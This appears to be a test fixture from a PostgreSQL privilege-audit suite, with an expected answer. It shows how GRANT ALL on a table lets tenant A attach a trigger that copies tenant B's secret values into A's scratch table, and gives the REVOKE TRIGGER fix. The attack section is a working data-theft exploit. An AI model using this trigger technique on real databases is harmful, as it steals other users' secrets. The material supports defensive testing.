-- title: GRANT ALL includes TRIGGER: A's trigger runs in B's statements
-- class: privileges
-- severity: critical
-- kind: static
-- leaks: attack /CANARY_B/
-- answer: flagged: `grant_trigger app.doc`

--@ setup
grant all on app.doc to app;
create schema scratch;
grant usage, create on schema scratch to app;
--@ fix
revoke trigger on app.doc from app;
--@ attack
:enter_a
create table scratch.loot (s text);
create function scratch.f() returns trigger language plpgsql
  as $$ begin insert into scratch.loot values (new.secret); return new; end $$;
create trigger z before insert or update on app.doc for each row execute function scratch.f();
commit;
\o /dev/null
:enter_b
insert into app.doc (id, secret) values (61, 'CANARY_B_live');
commit;
\o
:enter_a
select * from scratch.loot;
commit;
